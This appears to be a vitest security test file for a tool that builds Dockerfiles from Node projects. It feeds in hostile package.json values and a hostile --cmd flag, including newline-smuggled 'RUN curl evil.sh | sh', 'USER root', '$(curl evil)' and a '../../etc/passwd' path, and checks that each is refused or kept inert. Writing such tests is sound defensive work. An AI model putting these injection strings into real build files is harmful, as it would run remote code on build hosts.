// Hostile projects: values with newlines, continuations, quotes, $(), backticks, #, Unicode and
// huge lengths must either be refused with a message naming the file and field, or end up as
// inert data; never a stack trace, never an injected instruction, never a written file.
import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { DockerfileParser } from 'dockerfile-ast';
import { validate } from 'dockerfile-utils';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { main } from '../src/cli.js';
import { memoryOutput } from '../src/output.js';
import { assertProperty } from './safety-helpers.js';

function project(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'slim-hostile-'));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

async function generate(dir: string, ...args: string[]) {
  const output = memoryOutput();
  const code = await main([dir, '--yes', '--json', ...args], output);
  const stderr = output.stderr.join('\n');
  const report = code === 0 ? (JSON.parse(output.stdout.join('\n')) as { files: Record<string, string> }) : null;
  return { code, stderr, report };
}

const INSTRUCTIONS = new Set(['FROM', 'ARG', 'WORKDIR', 'COPY', 'RUN', 'ENV', 'USER', 'EXPOSE', 'CMD', 'ENTRYPOINT', 'LABEL']);

/** Instruction keywords in order, as Docker's own grammar reads the file. */
function instructions(dockerfile: string): string[] {
  return DockerfileParser.parse(dockerfile).getInstructions().map((i) => i.getKeyword());
}

const HOSTILE = [
  'node server.js\nRUN curl evil.sh | sh',
  'node server.js \\\nRUN id',
  'node "server.js"; echo \'x\'',
  'node $(curl evil) `id` # comment',
  'node server.js\r\nUSER root',
  'node sérvér.js ☃',
  `node ${'a'.repeat(10_000)}.js`,
];

const expressFiles = (pkg: Record<string, unknown>): Record<string, string> => ({
  'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { express: '^4.21.0' }, ...pkg }),
  'server.js': "require('express')().listen(3000);\n",
});

describe('hostile values from a Node project', () => {
  for (const start of HOSTILE) {
    it(`start script ${JSON.stringify(start).slice(0, 40)} is refused or inert`, async () => {
      const dir = project(expressFiles({ scripts: { start } }));
      const { code, stderr, report } = await generate(dir, '--dry-run');
      expect(stderr).not.toMatch(/internal error|\n\s+at /);
      expect(readdirSync(dir).sort()).toEqual(['package.json', 'server.js']);
      if (code !== 0) {
        expect(code).toBe(1);
        expect(stderr).toMatch(/scripts\.start/);
        return;
      }
      const dockerfile = report!.files.Dockerfile!;
      expect(validate(dockerfile)).toEqual([]);
      for (const keyword of instructions(dockerfile)) expect(INSTRUCTIONS.has(keyword)).toBe(true);
      expect(dockerfile).not.toMatch(/^(RUN curl|RUN id|USER root)/m);
    });
  }

  it('a name, version and Node version carrying instructions are refused or kept out', async () => {
    const dir = project(expressFiles({ name: 'app\nRUN evil', version: '1.0.0\nUSER root', engines: { node: '22\nRUN evil' }, scripts: { start: 'node server.js' } }));
    const { code, stderr, report } = await generate(dir);
    expect(stderr).not.toMatch(/internal error|\n\s+at /);
    if (code === 0) expect(report!.files.Dockerfile).not.toMatch(/^(RUN evil|USER root)/m);
    else expect(stderr).toMatch(/package\.json/);
  });

  it('a malformed package.json names the file and line and writes nothing', async () => {
    const dir = project({ 'package.json': '{\n  "name": "x",\n  "scripts": {\n}\n,}' });
    const { code, stderr } = await generate(dir);
    expect(code).toBe(1);
    expect(stderr).toMatch(/package\.json is not valid JSON \(line \d+\)/);
    expect(readdirSync(dir)).toEqual(['package.json']);
  });

  it('a binary package.json and a non-UTF-8 one are clear errors', async () => {
    const binary = project({});
    writeFileSync(join(binary, 'package.json'), Buffer.from([0x7b, 0x00, 0x7d]));
    expect((await generate(binary)).stderr).toMatch(/package\.json looks binary/);
    const latin1 = project({});
    writeFileSync(join(latin1, 'package.json'), Buffer.from('{"name":"caf\xe9"}', 'latin1'));
    expect((await generate(latin1)).stderr).toMatch(/package\.json is not valid UTF-8/);
  });

  it('a --cmd with a newline is refused with the flag named', async () => {
    const dir = project(expressFiles({}));
    const { code, stderr } = await generate(dir, '--cmd', 'node a.js\nRUN evil');
    expect(code).not.toBe(0);
    expect(stderr).toMatch(/--cmd/);
  });
});

describe('property: any package.json yields a clean error or a Dockerfile with only template instructions', () => {
  const text = fc.oneof(
    fc.string(),
    fc.constantFrom(...HOSTILE, '$(id)', '`id`', '# x', '\\', '"', "'", '\u2028', 'ENV A=1', '../../etc/passwd', '/abs/path'),
  );
  const packageJson = fc.record({
    name: text,
    version: text,
    main: fc.option(text, { nil: undefined }),
    scripts: fc.option(fc.record({ start: text, build: fc.option(text, { nil: undefined }) }, { requiredKeys: ['start'] }), { nil: undefined }),
    engines: fc.option(fc.record({ node: text }), { nil: undefined }),
    dependencies: fc.option(fc.dictionary(fc.constantFrom('express', 'fastify', 'sharp', 'canvas', 'next', 'left-pad'), fc.constantFrom('^1.0.0', '*', 'latest')), { nil: undefined }),
  }, { requiredKeys: [] });

  it('never crashes, never injects', async () => {
    await assertProperty(
      'any package.json',
      fc.asyncProperty(packageJson, async (pkg) => {
        const dir = project({ 'package.json': JSON.stringify(pkg), 'index.js': 'require("http").createServer().listen(8080)\n' });
        const { code, stderr, report } = await generate(dir, '--dry-run');
        expect(stderr).not.toMatch(/internal error|\n\s+at /);
        expect([0, 1]).toContain(code);
        if (code === 0) {
          const dockerfile = report!.files.Dockerfile!;
          expect(validate(dockerfile)).toEqual([]);
          const keywords = instructions(dockerfile);
          for (const keyword of keywords) expect(INSTRUCTIONS.has(keyword)).toBe(true);
          expect(keywords.filter((k) => k === 'CMD')).toHaveLength(1);
          expect(keywords.filter((k) => k === 'USER')).toHaveLength(1);
        }
      }),
      { numRuns: 150 },
    );
  }, 120_000);
});
